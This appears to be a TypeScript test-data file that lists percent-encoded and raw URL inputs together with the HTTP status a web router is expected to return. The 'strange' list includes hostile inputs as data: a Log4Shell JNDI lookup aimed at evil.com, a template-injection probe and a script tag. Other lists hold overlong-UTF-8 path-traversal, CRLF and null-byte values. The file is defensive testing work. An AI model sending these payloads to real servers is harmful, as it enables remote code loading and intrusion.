import { type Expected, get, getRow, type Kind, type Row, utf8, withoutBody } from './row';

const encoded = (...octets: number[]): string =>
  octets.map((octet) => `%${octet.toString(16).padStart(2, '0')}`).join('');

const range = (from: number, to: number): number[] =>
  Array.from({ length: to - from + 1 }, (_, at) => from + at);

/** An encoding alone, in a segment, and in the place of an id that any name fits. */
const rowsOf = (text: string, alone: Expected, asId = alone): Row[] => {
  const row = (target: string, expected: Expected) => getRow(target, expected, { title: text });
  return [
    row(`/${text}`, alone),
    row(`/en/contact/${text}`, alone),
    row(`/pt/${text}/x`, alone),
    row(`/en/products/${text}`, asId),
    row(`/en/products/x${text}?q=${text}`, asId),
  ];
};

/** What is no text in UTF-8. */
const noText = [
  ...['%', '%%', '%2', '%4', '%zz', '%g0', '%0g', '%u0041', '%u002f', '%x2f', '%-1', '%25%'],
  ...['%%32'],
  // Overlong: `/`, `\`, `.` and NUL in more octets than they take.
  ...['%c0%af', '%e0%80%af', '%f0%80%80%af', '%f8%80%80%80%af', '%fc%80%80%80%80%af', '%c1%9c'],
  ...['%c0%ae%c0%ae', '%e0%80%ae', '%c0%80', '%e0%80%80', '%f0%80%80%80'],
  // Halves of surrogate pairs, and beyond the last character.
  ...['%ed%a0%80', '%ed%bf%bf', '%ed%a0%bd%ed%b8%80', '%f4%90%80%80', '%f7%bf%bf%bf'],
  // Cut off, out of place, never used.
  ...['%e2%82', '%f0%9f', '%f0%9f%98', '%c3', '%E0%A4%A', '%80', '%bf', '%ff', '%fe', '%ff%fe'],
  ...['%c3%28', '%e2%28%a1', '%e2%82%28', '%a0%a1', '%e7'],
];

/** Text that no address of ours has: it is unknown and no more. */
const strange = [
  ...['%2500', '%25zz', '%252f', '%252e%252e', '%25c0%25af', '%25252f', '%2525', '%25u0041'],
  ...range(0x80, 0x9f).map((control) => encoded(0xc2, control)),
  ...['%ef%bb%bf', '%E2%80%AEne', '%e2%80%8f', '%e2%80%8b', '%e2%80%a8', '%ef%bf%bd', '%ef%bf%bf'],
  ...['%f4%8f%bf%bf', '%cc%81', 'e%cc%81n', '%c3%a9n', '%ef%bd%85%ef%bd%8e', '%c4%b0', '%c5%bf'],
  ...['%f0%9f%98%80', '%E2%9C%93', '%20', '+', '%2b', '%3f', '%23', '%26', '%3c%3e', '%22', '%27'],
  ...['%5b%5d', '%7b%7b7*7%7d%7d', '%24%7bjndi:ldap:%2f%2fevil.com%7d', '%3Cscript%3E', '%2a'],
];

/** Octets that no request target may have. */
const raw = [
  ...[utf8('/é'), utf8('/en/ç'), '/\xe9', '/\xc0\xaf', '/\xff', '/\x80', '/\x7f', '/\x1b[31m'],
  ...[
    '/\x00',
    '/en\x00',
    '/\x01',
    '/en\x0b',
    '/en\x0c',
    utf8('/\u202een'),
    '/en/products?q=\xc3\xa7\xe3',
  ],
];

export const encodings: Kind = {
  name: 'encodings',
  rows: [
    ...noText.flatMap((text) => rowsOf(text, 400)),
    ...[...range(0, 0x1f), 0x7f].flatMap((control) => rowsOf(encoded(control), 400)),
    ...['/en%00', '/en/%00.html', '/en/contact/%0a', '/en/products/%1b[31m', '/pt/%0d%0a'].map(
      (target) => getRow(target, 400),
    ),
    ...strange.flatMap((text) => rowsOf(text, 404, 301)),
    ...raw.map((target) => getRow(target, withoutBody(400))),
    // Of the letters that become one of ours in lower case, the sign of the kelvin is the only one beyond ASCII.
    getRow('/en/services/affiliate-lin%e2%84%aa-generator', 301),
    // A slash that is encoded ends no segment.
    getRow('/en%2fcontact', 404),
    getRow('/%2fen', 404),
    getRow('/%65%6e', 301),
    getRow('/%45N/%63ontact', 301),
    getRow('/en?%zz', 200, { like: get('/en') }),
  ],
};
